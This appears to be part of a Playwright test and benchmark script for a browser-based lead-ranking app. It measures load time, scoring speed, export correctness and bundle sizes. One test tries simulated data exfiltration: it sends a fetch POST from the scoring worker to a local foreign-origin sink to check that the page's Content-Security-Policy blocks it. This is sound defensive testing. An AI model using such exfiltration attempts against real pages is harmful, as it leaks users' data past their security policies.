          assert(!banner, `${device}: the page showed an error: ${banner}`);
          await page.click('#bundle-use');
          await page.waitForFunction(() => /int8\.safetensors/.test(document.querySelector('#model-status').textContent), null, { timeout: 120_000 });
          const loadSeconds = (Date.now() - started) / 1000;
          const seen = (await modelState(page)).seen;
          const rankSeconds = await uploadAndRank(page, leadFiles[device], 3_600_000);
          const dev = await deviceFields(page);
          exports[device] = await exportFromPage(page);
          result[device] = {
            loadSeconds,
            rankSeconds,
            leadsPerSec: Number(((dev['Measured speed'] || '').match(/^([\d,.]+) leads\/s/) || [])[1]?.replaceAll(',', '')),
            measured: dev['Measured speed'],
            workerMemory: dev['Worker memory'],
            runningOn: dev['Running on'],
            fellBackBecause: dev['Fell back because'] || null,
            gpuLimits: dev['GPU buffer limits'] || null,
            helpers: dev['Helper workers'] || null,
            progressLines: seen.length,
          };
          log(`        ${device}: ${JSON.stringify(result[device])}`);
          await page.close();
          none(compareRankedCsv(exports[device], nativeFor(device)), `${device}: export vs native`);
        }
      });
      recordBench('realSize', result);
    });

    await test('network policy probe: a page policy that refuses eval but leaves connect-src open is not reported enforced (the engine refuses to start); one whose connect-src blocks other origins is', async () => {
      // `script-src` alone refuses eval, which the old probe took for an enforced policy, while
      // the worker could still fetch any origin. Each page is the real one under that `<meta>`
      // policy (no headers); what the worker can really reach is tried after the page starts.
      const cases = [
        ['script-src only (no connect-src, no default-src)', "script-src 'self' 'wasm-unsafe-eval'; worker-src 'self' blob:", false],
        ['script-src and connect-src \'self\'', "script-src 'self' 'wasm-unsafe-eval'; worker-src 'self' blob:; connect-src 'self'", true],
        ['the page’s own policy', null, true],
      ];
      const sink = await startSink();
      const own = await launch();
      const recs = await recordNetwork(own.context);
      try {
        for (const [i, [name, policy, enforced]] of cases.entries()) {
          const host = await startStaticHost({ policy });
          try {
            const page = await own.context.newPage();
            page.on('console', (m) => consoleLines.push(`[${m.type()}] ${m.text()}`));
            const before = recs.length;
            await page.goto(`${host.url}?device=cpu`);
            await page.waitForFunction(() => document.body.dataset.engine || !document.querySelector('#banner').hidden, null, { timeout: 60_000 });
            const engine = await page.evaluate(() => document.body.dataset.engine || null);
            const banner = await bannerText(page);
            const worker = await scoringWorker(page);
            // The page's own requests so far pass the network audit (the probe among them).
            none(auditNetwork(recs.slice(before), [], [host.origin]), `${name}: the network audit of the page's start`);
            const tag = `${MARKER}-probe${i}`;
            const [tried] = await worker.evaluate(exfiltrate, { attempts: [{ kind: 'fetch POST with a body', tag, target: 'foreign' }], same: host.origin, foreign: sink.origin, marker: MARKER });
            const reached = sink.hits.some((h) => h.includes(tag));
            if (enforced) {
              assert(engine === 'cpu' && !banner, `${name}: the engine did not start (${engine}, banner ${banner})`);
              const dev = await deviceFields(page);
              assert(/^enforced/.test(dev['Network policy'] || ''), `${name}: Network policy ${JSON.stringify(dev['Network policy'])}`);
              assert(!reached && tried.violations.some((v) => /^connect-src /.test(v)), `${name}: the worker reached another origin (${JSON.stringify(tried)})`);
            } else {
              // The premise: this page's worker can reach another origin...
              assert(reached && tried.violations.length === 0, `${name}: the worker could not reach the other origin (${JSON.stringify(tried)}), so this case proves nothing`);
              // ...so the engine must not call the policy enforced, and refuses to start.
              assert(!engine, `${name}: the engine started (${engine})`);
              assert(/no Content-Security-Policy is enforced on the scoring worker’s network requests/.test(banner || ''), `${name}: banner ${banner}`);
            }
            await page.close();
          } finally {
            host.server.close();
          }
        }
      } finally {
        await own.context.close();
        rmSync(own.profile, { recursive: true, force: true });
        sink.server.close();
      }
    });
  } finally {
    await context.close();
    server.child.kill();
    rmSync(profile, { recursive: true, force: true });
  }

  writeFileSync(join(OUT, 'console.txt'), consoleLines.join('\n'));
  const failed = results.filter((r) => !r.ok);
  log(`\n${results.length - failed.length} passed, ${failed.length} failed; screenshot: ${join(OUT, 'ranked-queue.png')}`);
  if (failed.length) {
    log(`browser console (last lines):\n${consoleLines.slice(-30).join('\n')}`);
    process.exitCode = 1;
  }
}

// ------------------------------------------------------------------ benchmark

function gzipBytes(dir) {
  let raw = 0;
  let gz = 0;
  for (const name of readdirSync(dir)) {
    const p = join(dir, name);
    if (!statSync(p).isFile() || !/\.(js|wasm)$/.test(name)) continue;
    const bytes = readFileSync(p);
    raw += bytes.length;
    gz += gzipSync(bytes, { level: 9 }).length;
  }
  return { raw, gzip: gz };
}

async function bench() {
  mkdirSync(WORK, { recursive: true });
  // 1,000 leads for the CPU path (the target), 100 for WebGPU: SwiftShader emulates the GPU on
  // the CPU and takes minutes per hundred leads, so the ratio compares time per lead.
  const csv = (n) => {
    const path = join(WORK, `bench-${n}.csv`);
    run(['synth', '--leads', String(n), '--seed', '11', '--out', path, '--spec', join(WORK, 'bench.toml')]);
    return path;
  };
  const files = { 20: csv(20), 100: csv(100), 1000: csv(1000) };
  const result = {};
  const plan = [
    { device: 'cpu', warm: 100, timed: 1000 },
    ...(BENCH_CPU_ONLY ? [] : [{ device: 'gpu', warm: 20, timed: 100 }]),
  ];
  // Native `leadladder rank` on the same file and model, in the same run: its scoring rate (the
  // page's "Measured speed" is the worker's scoring rate too; neither counts reading the file).
  const nativeOut = run(['rank', '--model', MODEL, '--input', files[1000], '--out', join(WORK, 'bench-native.csv'), '--explain', '0']);
  const nativeRate = Number((nativeOut.match(/([\d.]+) leads\/s/) || [])[1]);
  result.native = { leads: 1000, leadsPerSec: nativeRate, line: nativeOut.split('\n')[0] };
  const server = await startServer();
  const { context, profile } = await launch();
  const consoleLines = [];
  try {
    for (const { device, warm, timed } of plan) {
      const page = await openPage(context, `${server.url}?device=${device}`, consoleLines);
      // Warm-up (model download, shader compilation), then the timed run on the same page.
      await uploadAndRank(page, files[warm], 1_800_000);
      const seconds = await uploadAndRank(page, files[timed], 1_800_000);
      const dev = await deviceFields(page);
      const scoring = Number(((dev['Measured speed'] || '').match(/^([\d,.]+) leads\/s/) || [])[1]?.replaceAll(',', ''));
      result[device] = { leads: timed, seconds, leadsPerSec: timed / seconds, scoringLeadsPerSec: scoring, backend: dev['Running on'], adapter: dev.Adapter || null, measured: dev['Measured speed'] };
      await page.close();
    }
  } finally {
    await context.close();
    server.child.kill();
    rmSync(profile, { recursive: true, force: true });
  }
  result.pageCpuOverNative = result.cpu.scoringLeadsPerSec / result.native.leadsPerSec;
  if (result.gpu) result.webgpuOverCpuTimePerLead = result.cpu.leadsPerSec / result.gpu.leadsPerSec;
  if (result.gpu && result.gpu.backend !== 'GPU (WebGPU)') {
    result.note = `the WebGPU run fell back to the CPU (${result.gpu.backend}); the ratio compares two CPU runs`;
  }
  const shell = ['index.html', 'app.js', 'client.js', 'worker.js', 'style.css'].reduce((s, n) => s + gzipSync(readFileSync(join(REPO, 'web', n)), { level: 9 }).length, 0);
  const model = gzipSync(readFileSync(MODEL), { level: 9 }).length;
  result.firstLoadGzipBytes = {
    gpuBuild: gzipBytes(join(REPO, 'pkg', 'gpu')),
    cpuBuild: gzipBytes(join(REPO, 'pkg', 'cpu')),
    appShell: shell,
    model,
  };
  result.firstLoadGzipBytes.totalWithGpuBuild = result.firstLoadGzipBytes.gpuBuild.gzip + shell + model;
  result.firstLoadGzipBytes.totalWithCpuBuild = result.firstLoadGzipBytes.cpuBuild.gzip + shell + model;
  // Keeps what the suite's real-size case recorded there.
  try {
    const kept = JSON.parse(readFileSync(join(OUT, 'bench.json'), 'utf8'));
    if (kept.realSize) result.realSize = kept.realSize;
  } catch {
    // no earlier file
  }
  writeFileSync(join(OUT, 'bench.json'), JSON.stringify(result, null, 2));
  log(JSON.stringify(result, null, 2));
}

/** 50,000 leads through the page's CPU path: time to read, rank and export, and wasm memory. */
async function bench50k() {
  mkdirSync(WORK, { recursive: true });
  const file = join(WORK, 'bench-50000.csv');
  run(['synth', '--leads', '50000', '--seed', '13', '--out', file, '--spec', join(WORK, 'bench-50k.toml')]);
  const server = await startServer();
  const { context, profile } = await launch();
  const consoleLines = [];
  const result = { leads: 50000, fileBytes: statSync(file).size };
  try {
    const page = await openPage(context, `${server.url}?device=cpu`, consoleLines);
    result.rankSeconds = await uploadAndRank(page, file, 3_600_000);
    const dev = await deviceFields(page);
    result.measured = dev['Measured speed'];
    result.workerMemory = dev['Worker memory'];
    result.pageJsHeapBytes = await page.evaluate(() => (performance.memory ? performance.memory.usedJSHeapSize : null));
    const started = Date.now();
    const exported = await exportFromPage(page);
    result.exportSeconds = (Date.now() - started) / 1000;
    result.exportRows = parseCsv(exported).length - 1;
    // The queue stays responsive: scrolling to the end renders the last lead.
    const t = Date.now();
    await page.evaluate(() => {
      const q = document.querySelector('#queue');
      q.scrollTop = q.scrollHeight;
    });
    await page.waitForSelector('#queue .queue-row[data-rank="50000"]', { timeout: 30_000 });
    result.scrollToEndSeconds = (Date.now() - t) / 1000;
    await page.close();
  } finally {
    await context.close();
    server.child.kill();
    rmSync(profile, { recursive: true, force: true });
  }
  writeFileSync(join(OUT, 'bench-50k.json'), JSON.stringify(result, null, 2));
  log(JSON.stringify(result, null, 2));
}

if (!existsSync(BIN)) {
  console.error(`leadladder binary not found at ${BIN}: build it (cargo test --workspace builds it, as does cargo build -p leadladder-cli) or set LEADLADDER_BIN`);
  process.exit(2);
}
if (!existsSync(join(REPO, 'pkg', 'cpu', 'leadladder_wasm.js'))) {
  console.error('pkg/ is missing: run `cargo xtask build-web` first');
  process.exit(2);
}
await (BENCH_50K ? bench50k() : BENCH ? bench() : suite());
